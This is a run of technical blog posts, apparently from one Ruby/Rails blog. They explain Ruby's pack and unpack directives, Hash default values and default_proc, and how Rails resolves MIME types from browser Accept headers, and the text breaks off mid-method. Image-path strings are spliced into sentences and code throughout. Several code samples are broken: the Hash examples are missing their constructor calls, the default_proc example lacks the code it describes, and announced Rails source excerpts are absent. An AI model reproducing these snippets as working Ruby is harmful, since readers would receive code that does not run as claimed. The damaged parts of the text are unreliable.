Now let’s take a look at two examples.> 'C'.unpack('b*')
=> ["11000010"]

> 'C'.unpack('B*')
=> ["01000011"]

Both b* and B* are looking at the same underlying data. It’s just that they represent the data differently.

Different ways of getting the same data

Let’s say that I want binary value for string hello . Based on the discussion in the last section that should be easy now.

> "hello".unpack('B*')
=> ["0110100001100101011011000110110001101111"]

The same information can also be derived as

> "hello".unpack('C*').map {|e| e.to_s 2}
=> ["1101000", "1100101", "1101100", "1101100", "1101111"]

Let’s break down the previous statement in small steps.

> "hello".unpack('C*')
=> [104, 101, 108, 108, 111]

Directive C* gives the 8-bit unsigned integer value of the character. Note that ascii value of h is 104, ascii value of e is 101 and so on.

Using the technique discussed above I can find hex value of the string.> "hello".unpack('C*').map {|e| e.to_s 16}
=> ["68", "65", "6c", "6c", "6f"]

Hex value can also be achieved directly.

> "hello".unpack('H*')
=> ["68656c6c6f"]

High nibble first vs Low nibble first

Notice the difference in the below two cases.

> "hello".unpack('H*')
=> ["68656c6c6f"]> "hello".unpack('h*')
=> ["8656c6c6f6"]

As per ruby documentation for unpack

H | hex string (high nibble first)
h | hex string (low nibble first)

A byte consists of 8 bits. A nibble consists of 4 bits. So a byte has two nibbles. The ascii value of ‘h’ is 104. Hex value of 104 is 68. This 68 is stored in two nibbles. First nibble, meaning 4 bits, contain the value 6 and the second nibble contains the value 8. In general we deal with high nibble first and going from left to right we pick the value 6 and then 8.

However if you are dealing with low nibble first then low nibble value 8 will take the first slot and then 6 will come. Hence the result in “low nibble first” mode will be 86.

This pattern is repeated for each byte. And because of that a hex value of 68 65 6c 6c 6f looks like 86 56 c6 c6 f6 in low nibblefirst format.

Mix and match directives

In all the previous examples I used *. And a * means to keep going as long as it has to keep going. Lets see a few examples.

A single C will get a single byte.

> "hello".unpack('C')
=> [104]

You can add more Cs if you like.

> "hello".unpack('CC')
=> [104, 101]

> "hello".unpack('CCC')
=> [104, 101, 108]

> "hello".unpack('CCCCC')
=> [104, 101, 108, 108, 111]

Rather than repeating all those directives, I can put a number to denote how many times you want previous directive to be repeated.

> "hello".unpack('C5')
=> [104, 101, 108, 108, 111]

I can use * to capture al the remaining bytes.

> "hello".unpack('C*')
=> [104, 101, 108, 108, 111]

Below is an example where MSB and LSB are being mixed.> "aa".unpack('b8B8')
=> ["10000110", "01100001"]

pack is reverse of unpack

Method pack is used to read the stored data. Let’s discuss a few examples.

>  [1000001].pack('C')
=> "A"

In the above case the binary value is being interpreted as 8 bit unsigned integer and the result is ‘A’.> ['A'].pack('H')
=> "\xA0"

In the above case the input ‘A’ is not ASCII ‘A’ but the hex ‘A’. Why is it hex ‘A’. It is hex ‘A’ because the directive ‘H’ is telling pack to treat input value as hex value. Since ‘H’ is high nibble first and since the input has only one nibble then that means the second nibble is zero. So the input changes from ['A'] to ['A0'] .

Since hex value A0 does not translate into anything in the ASCII table the final output is left as it and hence the result is \xA0. The leading \x indicates that the value is hex value.

Notice the in hex notation A is same as a. So in the above example I can replace A with a and the result should not change. Let’s try that.

> ['a'].pack('H')
=> "\xA0"

Let’s discuss another example.

> ['a'].pack('h')
=> "\n"

In the above example notice the change. I changed directive from H to h. Since h means low nibble first and since the input has only one nibble the value of low nibble becomes zero and the input value is treated as high nibble value. That means value changes from ['a'] to ['0a']. And the output will be \x0A. If you look at ASCII table then hex value A is ASCII value 10 which is NL line feed, new line. Hence we see \n as the output because it represents “new line feed”.

Usage of unpack in Rails source codeI did a quick grep in Rails source code and found following usage of unpack.


Already we have seen the usage of directive C* and H for unpack. The directive m gives the base64 encoded value and the directive U* gives the UTF-8 character. Here is an example.

> "Hello".unpack('U*')
=> [72, 101, 108, 108, 111]

Testing environment

Above code was tested with ruby 1.9.2 .

French version of this article is available here .

Infinite hash and default_proc

I you already know how this infinite hash works then you are all set. If not read along.

Default value of Hash

If I want a hash to have a default value then that’s easy.

h =
puts h['usa'] #=> 0

Above code will give me a fixed value if key is not found. If I want dynamic value then I can use block form.

h ={|h,k| h[k] = k.upcase}
puts h['usa'] #=> USA
puts h['india'] #=> INDIA

Default value is hashIf I want the default value to be a hash then it seems easy but itfalls apart soon.

h ={|h,k| h[k] = {} }
puts h['usa'].inspect #=> {}
puts h['usa']['ny'].inspect #=> nil
puts h['usa']['ny']['nyc'].inspect #=> NoMethodError: undefined method `[]' for nil:NilClass

In the above if a key is missing for h then it returns a hash. However that returned hash is an ordinary hash which does not have a capability of returning another hash if a key is missing.

This is where default_proc comes into picture. hash.default_proc returns the block which was passed to .

h ={|h,k|}
puts h['usa']['ny']['nyc'].inspect #=> {}

Mime type resolution in Rails

This is a long blog. If you want a summary then José Valim has provided a summary in less than 140 characters.

It is common to see following code in Rails

respond_to do |format|
  format.xml  { render :xml => @users }

If you want output in xml format then request with .xml extension at the end like this localhost:3000/users.xml and you will get the output in xml format.What we saw is only one part of the puzzle. The other side of the equation is HTTP header field Accept defined in HTTP RFC.

HTTP Header Field Accept

When browser sends a request then it also sends the information about what kind of resources the browser is capable of handling. Here are some of the examples of the Accept header a browser can send.


image/gif, images/x-xbitmap, images/jpeg, application/, application/msword,
application/, */*


application/vnd.wap.wmlscriptc, text/vnd.wap.wml, application/vnd.wap.xhtml+xml,
application/xhtml+xml, text/html, multipart/mixed, */*

If you are reading this blog on a browser then you can find out what kind of Accept header your browser is sending by visiting this link. Here is list of Accept header sent by different browsers on my machine.

Chrome: application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5
Firefox: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8,application/json
Safari: application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5
IE: application/x-ms-application, image/jpeg, application/xaml+xml, image/gif,
image/pjpeg, application/x-ms-xbap, application/x-shockwave-flash, */*

Let’s take a look at the Accept header sent by Safari.Safari: application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5

Safari is saying that I can handle documents which are xml (application/xml), html (text/html) or plain text (text/plain) documents. And I can handle images such as image/png. If all else fails then send me whatever you can and I will try to render that document to the best of my ability.

Notice that there are also q values. That signifies the priority order. This is what HTTP spec has to say about q.

Each media-range MAY be followed by one or moreaccept-params, beginning with the “q” parameter for indicating a relative quality factor. The first “q” parameter (if any) separates the media-range parameter(s) from the accept-params. Quality factors allow the user or user agent to indicate the relative degree of preference for that media-range, using the qvalue scale from 0 to 1 (section 3.9). The default value is q=1.

The spec is saying is that each document type has a default value of q as 1. When q value is specified then take that value into account. For all documents that have same q value give high priority to the one that came first in the list. Based on that this should be the order in which documents should be sent to safari browser.

application/xml (q is 1)
application/xhtml+xml (q is 1)
image/png (q is 1)
text/html (q is 0.9)
text/plain (q is 0.8)
\*/\* (q is 0.5)

Notice that Safari is nice enough to put a lower priority for */*. Chrome and Firefox also puts */* at a lower priority which is a good thing. Not so with IE which does not declare any q value for */* .

Look at the order again and you can see that application/xml has higher priority over text/html. What it means is that safari is telling Rails that I would prefer application/xml over text/html. Send me text/html only if you cannot send application/xml.

And let’s say that you have developed a RESTful app which is capable of sending output in both html and xml formats.

Rails being a good HTTP citizen should follow the HTTP_ACCEPT protocol and should send an xml document in this case. Again all you did was visit a website and safari is telling rails that send me xml document over html document. Clearly HTTP_ACCEPT values being sent by Safari is broken.

HTTP_ACCEPT is broken

HTTP_ACCEPT attribute concept is neat. It defines the order and the priority. However the implementation is broken by all the browser vendors. Given the case that browsers do not send proper HTTP_ACCEPT what can rails do. One solutionis to ignore it completely. If you want xml output then request http://localhost:3000/users.xml . Solely relying on formats make life easy and less buggy. This is what Rails did for a long time.

Starting this commit ,by default, rails did ignore HTTP_ACCEPT attribute. Same is true for Twitter API where HTTP_ACCEPT attribute is ignored and twitter solely relies on format to find out what kind of document should be returned.

Unfortunately this solution has its own sets of problems. Web has been there for a long time and there are a lot of applications who expect the response type to be RSS feed if they are sending application/rss+xmlin their HTTP_ACCEPT attribute. It is not nice to take a hard stand and ask all of them to request with extension .rss .

Parsing HTTP_ACCEPT attribute

Parsing and obeying HTTP_ACCEPT attribute is filled with many edge cases. First let’s look at the code that decides what to parse and how to handle the data.

BROWSER_LIKE_ACCEPTS = /,\s*\*\/\*|\*\/\*\s*,/

def formats
  accept = @env['HTTP_ACCEPT']

  @env["action_dispatch.request.formats"] ||=
    if parameters[:format]
    elsif xhr? || (accept && accept !~ BROWSER_LIKE_ACCEPTS)

